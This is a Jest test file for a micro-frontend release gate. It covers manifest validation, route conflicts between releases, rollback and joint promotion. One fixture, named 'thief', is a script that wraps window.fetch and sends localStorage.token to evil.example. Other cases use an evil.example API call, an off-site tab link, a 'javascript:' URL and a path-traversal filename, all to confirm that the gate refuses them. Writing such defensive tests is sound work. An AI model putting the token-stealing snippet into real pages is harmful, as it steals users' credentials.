/** What a manifest says of its release, and what the gate makes of it. */
import type { NavigationEntry, RouteContract } from '../contract';
import { manifestFaults, type ReleaseManifest } from '../manifest';
import { gate, promote, promoteTogether, rollback } from '../operations';
import { readBuild } from '../publish';
import { openStore } from '../store/open-store';
import type { Store } from '../store/store';
import { manifestOf, publishSample, type Sample, sample, scratch, writeBuild } from '../testing/fixture';

const by = { by: 'tester' };
let store: Store;
beforeEach(async () => {
  store = { ...openStore({ place: await scratch() }), serverRoutes: ['/api/*', '/admin/*'] };
});

type Change = (manifest: ReleaseManifest) => void;

/** As somebody who writes into the store, past the checks of publish. */
async function putInStore(given: Sample, change: Change = () => {}): Promise<ReleaseManifest> {
  const { manifest, files } = sample(given);
  change(manifest);
  const all = [...files, ['release.json', JSON.stringify(manifest)] as const].map(
    ([file, content]) => [file, Buffer.from(content)] as const,
  );
  await store.blobs.putAll(`r/${manifest.name}/${manifest.version}`, new Map(all), 'release.json');
  return manifest;
}

async function failedChecks(given: Sample, change?: Change): Promise<Record<string, string>> {
  const { name, version } = await putInStore(given, change);
  const { checks } = await gate(store, { name, version });
  return Object.fromEntries(
    checks.filter(({ outcome }) => outcome === 'failed').map(({ check, detail }) => [check, detail]),
  );
}

describe('what a release is', () => {
  const thief = `setTimeout(() => {
    const { fetch } = window;
    window.fetch = (...call) => fetch(...call).finally(() => new Image().src = 'https://evil.example/?' + localStorage.token);
  }, 60_000);`;
  const asShell: Change = (manifest) => {
    manifest.kind = 'shell';
  };

  it('comes from its name: a remote that calls itself the shell is refused, and checked as the remote that it is', async () => {
    const checks = await failedChecks(
      { more: { 'home.dd.js': thief, 'home.dd.css': 'body{display:none}', 'big.js': 'x' } },
      asShell,
    );
    expect(checks).toMatchObject({
      manifest: 'kind is "shell", but "catalog" names a remote',
      'own-pages': expect.stringMatching(
        /home\.dd\.css:1:1 .*; home\.dd\.js:3:5 writes fetch|home\.dd\.js:3:5 writes fetch/,
      ),
    });
  });

  it('is refused at publish already', async () => {
    const build = sample();
    asShell(build.manifest);
    const dist = await writeBuild(build);
    await expect(readBuild(dist)).rejects.toThrow('kind is "shell", but "catalog" names a remote');
    const shell = manifestOf({ name: 'shell' });
    expect(manifestFaults({ ...shell, kind: 'remote' })).toEqual(['kind is "remote", but "shell" names a shell']);
    expect(manifestFaults({ ...shell, remote: manifestOf().remote })).toEqual([
      'the shell has no contract of a remote',
    ]);
  });

  it('has the budget of a page', async () => {
    const noise = Array.from({ length: 40_000 }, (_, index) => Math.sin(index).toString(36)).join('');
    const checks = await failedChecks({ more: { 'home.dd.js': `"${noise}"` } }, asShell);
    expect(checks.size).toMatch(/of 150000 bytes/);
  });

  it('is what its folder in the store says', async () => {
    const { name, version } = await putInStore({}, (manifest) => {
      manifest.name = 'catalog';
    });
    const raw = (await store.readFile(name, version, 'release.json')) as Buffer;
    const files = new Map([['release.json', raw]]);
    await store.blobs.putAll(`r/orders/${version}`, files, 'release.json');
    await expect(gate(store, { name: 'orders', version })).rejects.toThrow(/says that it is catalog@/);
  });
});

describe('a manifest is refused', () => {
  const route =
    (more: object): Change =>
    (manifest) => {
      Object.assign(manifest.remote ?? {}, { routes: [{ ...manifest.remote?.routes[0], ...more }] });
    };
  const tab =
    (more: Partial<NavigationEntry>): Change =>
    (manifest) => {
      Object.assign(manifest.remote ?? {}, { tabBar: [{ ...manifest.remote?.tabBar?.[0], ...more }] });
    };
  const steps =
    (more: object): Change =>
    (manifest) => {
      Object.assign(manifest.remote ?? {}, { steps: [{ from: 'price', to: 'order', ...more }] });
    };
  it('but not with steps that its pages owe', () => {
    const manifest = manifestOf();
    steps({ direction: 'rises', bound: 0.3, dryRun: true })(manifest);
    expect(manifestFaults(manifest)).toEqual([]);
  });
  it.each<[string, Change, RegExp]>([
    [
      'an entry that the gate does not read as a script',
      (m) => rename(m, 'remoteEntry.js', 'remoteEntry.mjs'),
      /no \.js file/,
    ],
    ['a page’s script of the server build', (m) => rename(m, 'home.dd.js', 'server/home.dd.js'), /no \.js file/],
    [
      'a global of the browser as its container',
      (m) => Object.assign(m, { container: 'fetch' }),
      /begins with "catalog"/,
    ],
    ['a pattern as its container', (m) => Object.assign(m, { container: 'catalog|.*' }), /begins with "catalog"/],
    ['a file outside its folder', (m) => rename(m, 'home.dd.js', '../../shell/home.dd.js'), /not allowed/],
    ['a route that is dynamic in part', route({ path: '/goods-:id' }), /plain segments/],
    ['a route without a title', route({ title: 7 }), /needs a title/],
    ['a description that is no text', route({ description: {} }), /no text/],
    ['a kind that is no word', route({ kind: 'Product page' }), /has a kind/],
    ['parameters that are no texts', route({ parameters: { id: 7 } }), /has parameters/],
    ['a call beside the API', route({ firstCalls: [{ url: 'https://evil.example/api/' }] }), /one of \/api\//],
    ['a tab that leads to another site', tab({ path: '//evil.example' }), /a path of the site/],
    ['a step to itself', steps({ to: 'price' }), /steps must list/],
    ['a step that is no word', steps({ from: 'a>b' }), /steps must list/],
    ['a step that goes sideways', steps({ direction: 'sideways' }), /steps must list/],
    ['a bound of everything', steps({ bound: 1 }), /steps must list/],
    ['a tab that leads to a script', tab({ path: 'javascript:alert(1)' }), /a path of the site/],
  ])('with %s', (_, change, fault) => {
    const manifest = manifestOf();
    change(manifest);
    expect(manifestFaults(manifest).join('; ')).toMatch(fault);
  });

  function rename(manifest: ReleaseManifest, from: string, to: string): void {
    const renamed = JSON.parse(JSON.stringify(manifest).replaceAll(`"${from}"`, JSON.stringify(to)));
    Object.assign(manifest, renamed);
  }

  it('not with a container that begins with its name', () => {
    for (const container of ['catalog', 'catalog_3f9c2ab1', 'mfe_catalog_1_0_0'])
      expect(manifestFaults({ ...manifestOf(), container })).toEqual([]);
  });
});

it('does not stop a rollback to what was live before the rule', async () => {
  const earlier = await publishSample(store);
  await promote(store, { ...by, name: 'catalog' });
  await publishSample(store, { text: 'two' });
  await promote(store, { ...by, name: 'catalog' });
  const key = `r/catalog/${earlier}/release.json`;
  const manifest = JSON.parse(String(await store.blobs.get(key)));
  manifest.remote.routes[0].title = 7;
  await store.blobs.put(key, Buffer.from(JSON.stringify(manifest)));
  expect(await rollback(store, { ...by, name: 'catalog' })).toMatchObject({ outcome: 'rolled back', to: earlier });
});

describe('a route', () => {
  const routes = (...paths: string[]): RouteContract[] =>
    paths.map((path) => ({ path, page: './main', module: '', title: 'x' }));
  const orders = (...paths: string[]): Sample => ({ name: 'orders', routes: routes(...paths), text: paths.join() });

  beforeEach(async () => {
    await publishSample(store, { name: 'shell' });
    await promote(store, { ...by, name: 'shell' });
    await publishSample(store);
    await promote(store, { ...by, name: 'catalog' });
  });

  it.each([
    ['/goods/1', '/goods/:id, which is claimed by catalog'],
    ['/goods/*', '/goods, which is claimed by catalog'],
    ['/GOODS/:id', '/goods/:id, which is claimed by catalog'],
    ['/*', '/home, which is claimed by catalog'],
    ['/:anything', '/home, which is claimed by catalog'],
    ['/home/:x?', '/home, which is claimed by catalog'],
    ['/', '/, which is claimed by shell'],
    ['/404', '/404, which is claimed by shell'],
    ['/403', '/403, which is claimed by shell'],
    ['/admin/:page?', '/admin/*, which is claimed by the server'],
    ['/api/health', '/api/*, which is claimed by the server'],
  ])('%s that could match an address of others is refused, with both named', async (path, other) => {
    const { routes } = await failedChecks(orders('/orders', path));
    expect(routes).toContain(`${path} of orders matches addresses of ${other}`);
    expect(routes).not.toContain('/orders of orders');
  });

  it.each(['/goods/%31', '/goods/../home', '/goods-:id'])('%s is no pattern', async (path) => {
    expect(await failedChecks(orders('/orders', path))).toHaveProperty('manifest', expect.stringContaining(path));
  });

  it('may overlap with routes of the same release, whose ranks decide', async () => {
    expect(await failedChecks(orders('/orders', '/orders/:id', '/orders/new', '/orders/*'))).toEqual({});
    expect(await failedChecks(orders('/orders/:id', '/orders/:key'))).toEqual({ routes: '/orders/:key stands twice' });
  });

  it('of a canary counts too', async () => {
    const version = await publishSample(store, orders('/bills', '/bills/:id'));
    await promote(store, { ...by, name: 'orders', version, traffic: 1 });
    const checks = await failedChecks({ name: 'content', routes: routes('/bills/7') });
    expect(checks).toEqual({
      routes: '/bills/7 of content matches addresses of /bills/:id, which is claimed by orders',
    });
  });

  it('is compared with those of what is promoted with it', async () => {
    const bills = await publishSample(store, orders('/bills/:id'));
    const content = await publishSample(store, { name: 'content', routes: routes('/bills/*') });
    const releases = [
      { name: 'orders', version: bills },
      { name: 'content', version: content },
    ];
    await expect(promoteTogether(store, { ...by, releases })).rejects.toThrow(
      '/bills/:id of orders matches addresses of /bills/*, which is claimed by content',
    );
  });
});
